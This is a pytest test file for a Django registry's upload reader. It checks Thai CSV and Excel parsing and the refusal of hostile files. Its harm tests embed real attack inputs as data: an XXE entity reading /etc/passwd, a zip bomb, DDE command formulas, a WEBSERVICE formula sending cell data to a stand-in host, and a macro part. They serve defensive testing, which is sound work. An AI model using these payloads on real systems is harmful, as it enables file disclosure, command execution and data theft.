"""What comes as a file: texts in every encoding, workbooks as programs write them, and such as want
to do harm."""

import io
import subprocess
import sys
import zipfile
from datetime import datetime

import openpyxl
import pytest
import xlsxwriter
from django.test import override_settings

from registry.intake import files, reading
from registry.tests.registers import FOLDER, book
from registry.uploads import Refused, sandbox, worker

OPENDOCUMENT = b"mimetypeapplication/vnd.oasis.opendocument.spreadsheet"
ROWS = [["ประเภท", "ชื่อ", "ตำบล"], ["กลุ่ม", "กลุ่มทอผ้า, บ้านหนองแวง", "ศาลา"]]


def rows(content, name="ทะเบียน.xlsx"):
    return files.read_bytes(content, name).sheets[0]["rows"]


def refused(content, name="ทะเบียน.xlsx"):
    with pytest.raises(Refused) as error:
        files.read_bytes(content, name)
    assert "“ทะเบียน" in error.value.message
    return error.value.code


# --- texts ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp874", "utf-16"])
@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_text_in_every_encoding_and_with_every_delimiter(encoding, mark):
    lines = [mark.join(f'"{cell}"' for cell in row) for row in ROWS]
    assert rows("\r\n".join(lines).encode(encoding)) == ROWS


def test_text_with_the_tricks_that_keep_numbers():
    found = rows('ชื่อ,โทร\nก,="0812345678"\nข,\'0812345679\n'.encode())
    assert found[1:] == [["ก", "0812345678"], ["ข", "0812345679"]]


def test_row_of_a_text_may_have_several_lines():
    assert rows('ชื่อ,ที่อยู่\n"ก","12\nม.3"\nข,x\n'.encode())[2] == ["ข", "x"]


# --- workbooks -----------------------------------------------------------------------------------


def test_workbook_with_shared_and_with_inline_strings():
    shared = io.BytesIO()
    with xlsxwriter.Workbook(shared, {"in_memory": True}) as made:
        sheet = made.add_worksheet("ทะเบียน")
        for number, row in enumerate(ROWS):
            sheet.write_row(number, 0, row)
    assert rows(shared.getvalue()) == rows(book(ROWS)) == ROWS


def test_workbook_that_counts_its_days_from_1904():
    stored = io.BytesIO()
    with xlsxwriter.Workbook(stored, {"date_1904": True}) as made:
        day = made.add_format({"num_format": "dd/mm/yyyy"})
        made.add_worksheet().write_datetime(0, 0, datetime(2024, 11, 18), day)
    assert rows(stored.getvalue()) == [["2024-11-18"]]


def test_cells_that_are_errors_or_formulas_without_result_are_told():
    workbook = openpyxl.Workbook()
    workbook.active.append(["ชื่อ", "=1+1", "ก"])
    workbook.active["D1"].value, workbook.active["D1"].data_type = "#REF!", "e"
    stored = io.BytesIO()
    workbook.save(stored)
    assert rows(stored.getvalue()) == [["ชื่อ", reading.WITHOUT_RESULT, "ก", "#REF!"]]


def test_formula_is_read_as_its_last_result():
    stored = io.BytesIO()
    with xlsxwriter.Workbook(stored) as made:
        made.add_worksheet().write_formula(0, 0, '="กลุ่ม"&"ทอผ้า"', None, "กลุ่มทอผ้า")
    assert rows(stored.getvalue()) == [["กลุ่มทอผ้า"]]


def test_numbers_come_as_they_were_typed():
    content = book([[1038836859575, 12.0, 0.5, True, None, "  ก  "]])
    assert rows(content) == [["1038836859575", "12", "0.5", "True", "", "ก"]]


def test_old_workbook_is_read():
    content = (FOLDER / "kokha_one_sheet.xls").read_bytes()
    sent = files.read_bytes(content, "ทะเบียน.xls")
    assert (sent.form, sent.sheets[0]["name"]) == ("xls", "ทะเบียน ๖๘")


# --- harm ----------------------------------------------------------------------------------------


def with_part(content, name, data):
    """A workbook with a part more, or with another content of that part."""
    stored = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(stored, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for item in old.namelist():
            if item != name:
                new.writestr(item, old.read(item))
        new.writestr(name, data)
    return stored.getvalue()


def sheet_xml(cells):
    return (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        f'2006/main"><sheetData>{cells}</sheetData></worksheet>'
    )


def test_cell_at_the_far_end_of_a_sheet_is_refused():
    far = sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>'
                    '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')  # fmt: skip
    assert refused(with_part(book(ROWS), "xl/worksheets/sheet1.xml", far)) == "too_complex"


def test_bomb_is_refused_before_it_is_unpacked():
    content = with_part(book(ROWS), "xl/media/bomb.bin", bytes(200 * 1024 * 1024))
    assert len(content) < 500_000
    assert refused(content) == "too_complex"


def test_entities_are_refused():
    evil = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            "<sst><si><t>&e;</t></si></sst>")  # fmt: skip
    assert refused(with_part(book(ROWS), "xl/sharedStrings.xml", evil)) == "hostile"


@pytest.mark.parametrize(
    "formula", ["cmd|'/C calc'!A0", 'WEBSERVICE("http://x/?"&amp;A1)', 'DDE("cmd";"/C calc")']
)
def test_formula_that_reaches_out_is_refused(formula):
    cells = f'<row r="1"><c r="A1"><f>{formula}</f><v>0</v></c></row>'
    assert refused(with_part(book(ROWS), "xl/worksheets/sheet1.xml", sheet_xml(cells))) == "hostile"


def test_macros_are_refused():
    assert refused(with_part(book(ROWS), "xl/vbaProject.bin", b"x")) == "workbook_macros"
    old = (FOLDER / "kokha_one_sheet.xls").read_bytes() + "_VBA_PROJECT".encode("utf-16-le")
    assert refused(old) == "macros"


def test_password_is_told():
    locked = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le")
    )
    assert refused(locked) == "password"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty"),
        (b" \r\n\r\n", "empty"),
        (book(ROWS)[:2000], "broken"),
        (b"PK\x03\x04" + b"xl/workbook.xml" + bytes(100), "broken"),
        (b"%PDF-1.4 x", "other"),
        (b"<html><table><tr><td>x</table>", "web_page"),
        (b"PK\x03\x04" + bytes(26) + OPENDOCUMENT, "opendocument"),
        ("ก,ข\n".encode() * 2000 + b"\xff\xdb", "encoding"),
        (book([[]]), "no_sheets"),
    ],
)  # fmt: skip
def test_file_that_is_no_register_gets_one_sentence(content, code):
    assert refused(content) == code


@override_settings(IMPORT_MAX_BYTES=1000)
def test_limit_of_size_is_a_setting(tmp_path):
    path = tmp_path / "x"
    path.write_bytes(bytes(5000))
    with path.open("rb") as file, pytest.raises(Refused) as error:
        files.read(file, "ทะเบียน.xlsx")
    assert error.value.code == "too_large"


@override_settings(IMPORT_MAX_ROWS=3)
def test_limit_of_rows_is_a_setting():
    assert len(rows(book([["ก"]] * 3))) == 3
    assert refused(book([["ก"]] * 4)) == "rows"


def test_child_has_300_mb_and_10_seconds():
    assert worker.TIGHT["register"] == (300 * 1024 * 1024, 10)
    assert files.SECONDS == 10
    code = (
        "from registry.uploads import worker; worker._limit('register'); bytearray(350 * 1024**2)"
    )
    child = subprocess.run([sys.executable, "-c", code], cwd=sandbox.ROOT, capture_output=True)
    assert child.stderr.endswith(b"MemoryError\n")


def test_reading_that_takes_too_long_is_given_up(monkeypatch):
    monkeypatch.setattr(files, "SECONDS", 0.01)
    assert refused(book(ROWS)) == "too_complex"


@pytest.mark.slow
def test_20_000_rows_are_read_within_the_limits():
    content = book(
        [["กลุ่ม", f"กลุ่มทดสอบ{n}", "ศาลา", "นางตัวอย่าง สมมติ", "0812345678"] for n in range(20_000)]
    )
    assert len(rows(content)) == 20_000
